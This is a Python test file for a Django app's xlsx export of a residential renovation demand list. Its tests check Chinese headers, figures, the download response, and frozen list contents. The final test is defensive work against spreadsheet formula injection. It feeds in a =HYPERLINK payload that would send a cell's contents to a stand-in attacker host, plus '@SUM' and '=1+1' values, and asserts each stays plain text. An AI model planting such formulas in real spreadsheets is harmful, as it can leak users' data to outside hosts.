"""The xlsx export of a published demand list version."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from io import BytesIO

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import make_estate, make_user, region_chain
from xiaoqu.needs import services
from xiaoqu.needs.exporting import demand_list_xlsx
from xiaoqu.needs.models import Channel, Demand, Opinion

pytestmark = pytest.mark.django_db


@pytest.fixture
def published():
    """金仓小区 (8 households): a leak asked by 3 households and a declined parking demand."""
    community = region_chain()[-1]
    estate = make_estate(community, name="金仓小区", floors=4, per_floor=2)
    homes = list(estate.dwellings.order_by("pk"))
    staff = make_user("community_staff", region=community, password=None)
    leak = Demand.objects.create(estate=estate, category="roof_facade", title="屋顶漏水")
    parking = Demand.objects.create(estate=estate, category="parking", title="停车位太少")
    for i, home in enumerate(homes[:3]):
        Opinion.objects.create(
            estate=estate,
            dwelling=home,
            channel=Channel.VISIT,
            text="漏水",
            heard_on=dt.date(2026, 3, 1 + i),
            category="roof_facade",
            demand=leak,
        )
    Opinion.objects.create(
        estate=estate,
        dwelling=homes[5],
        channel=Channel.RESIDENT,
        text="没地方停车",
        heard_on=dt.date(2026, 3, 9),
        category="parking",
        demand=parking,
    )
    services.demand_set_status(demand=parking, status="declined", reason="院内无空地", actor=staff)
    demand_list = services.demand_list_publish(estate=estate, actor=staff, note="第一轮")
    return demand_list, staff


def test_workbook_has_title_rows_chinese_headers_and_every_figure(published):
    demand_list, _staff = published
    sheet = load_workbook(BytesIO(demand_list_xlsx(demand_list))).active
    assert sheet["A1"].value == "金仓小区改造需求清单（第1版）"
    assert "总户数 8 户" in sheet["A2"].value and "4 条" in sheet["A2"].value
    headers = [c.value for c in sheet[3]]
    assert headers[:6] == ["序号", "需求", "类别", "分类", "提出户数", "占总户数比例"]
    assert headers[-1] == "不实施原因"
    first = [c.value for c in sheet[4]]
    assert first[:7] == [1, "屋顶漏水", "屋面与外墙", "基础类", 3, 0.375, 3]
    assert first[7].date() == dt.date(2026, 3, 1) and first[8].date() == dt.date(2026, 3, 3)
    assert Decimal(str(first[9])) == Decimal("56.3")
    assert first[10] == "已收集"
    second = [c.value for c in sheet[5]]
    assert (second[1], second[10], second[11]) == ("停车位太少", "暂不实施", "院内无空地")
    assert sheet.cell(row=4, column=6).number_format == "0.0%"
    assert sheet.column_dimensions["B"].width > 20


def test_export_view_sends_the_file_with_a_chinese_name(published):
    demand_list, staff = published
    client = Client()
    client.force_login(staff)
    response = client.get(reverse("needs:demand_list_xlsx", kwargs={"list_id": demand_list.pk}))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet["B4"].value == "屋顶漏水"


def test_export_holds_the_frozen_items_not_later_changes(published):
    demand_list, staff = published
    leak = Demand.objects.get(title="屋顶漏水")
    services.demand_update(demand=leak, title="屋面翻修", actor=staff)
    sheet = load_workbook(BytesIO(demand_list_xlsx(demand_list))).active
    assert sheet["B4"].value == "屋顶漏水"


def test_an_opinion_written_as_a_formula_stays_text_in_the_workbook():
    """=HYPERLINK(…) as a demand's title or reason is a text cell, never a live formula."""
    formula = '=HYPERLINK("http://evil.example/?leak="&B5,"点此查看")'
    community = region_chain()[-1]
    estate = make_estate(community, name="=1+1小区", floors=2, per_floor=2)
    staff = make_user("community_staff", region=community, password=None)
    demand = Demand.objects.create(estate=estate, category="parking", title=formula)
    Opinion.objects.create(
        estate=estate,
        dwelling=estate.dwellings.first(),
        channel=Channel.RESIDENT,
        text=formula,
        heard_on=dt.date(2026, 3, 9),
        category="parking",
        demand=demand,
    )
    services.demand_set_status(demand=demand, status="declined", reason="@SUM(A1)", actor=staff)
    demand_list = services.demand_list_publish(estate=estate, actor=staff, note="")

    sheet = load_workbook(BytesIO(demand_list_xlsx(demand_list))).active

    assert (sheet["B4"].value, sheet["B4"].data_type) == (formula, "s")
    assert (sheet["L4"].value, sheet["L4"].data_type) == ("@SUM(A1)", "s")
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("=1+1小区")
